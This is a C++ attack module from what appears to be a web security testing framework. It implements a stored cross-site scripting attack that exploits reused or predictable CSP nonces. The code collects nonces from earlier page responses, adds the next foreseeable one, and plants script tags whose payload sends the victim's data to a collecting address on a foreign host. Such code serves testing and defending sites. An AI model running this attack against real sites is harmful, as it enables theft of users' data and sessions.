// xss-nonce: leaves a script with the nonce of an earlier answer, since a nonce is for one, and
// with the next one where it can be foreseen (CSP3, "Nonce Reuse"; ASVS 5.0, 3.4.3).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

class XssNonce final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        std::vector<std::string> nonces = seen_in(text.pages());
        target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
        if (nonces.empty()) return;
        // Of those that were seen the first and the last, and the one that comes next.
        if (nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
        nonces.push_back(target.victim()->foreseen_nonce());
        std::string const script = taking_script(target, address);
        std::string scripts;
        for (std::string const& nonce : nonces)
            scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
        text.leave(scripts);
        victim_reads_and_loot_is_used(target);
    }

    static std::vector<std::string> seen_in(std::vector<std::string> const& pages) {
        std::vector<std::string> nonces;
        for (std::string const& page : pages)
            for (Tag const& tag : tags_in(page))
                if (auto const nonce = tag.attribute("nonce"); nonce && !nonce->empty())
                    if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
        return nonces;
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_nonce() { return std::make_unique<XssNonce>(); }

}  // namespace parapet::attack
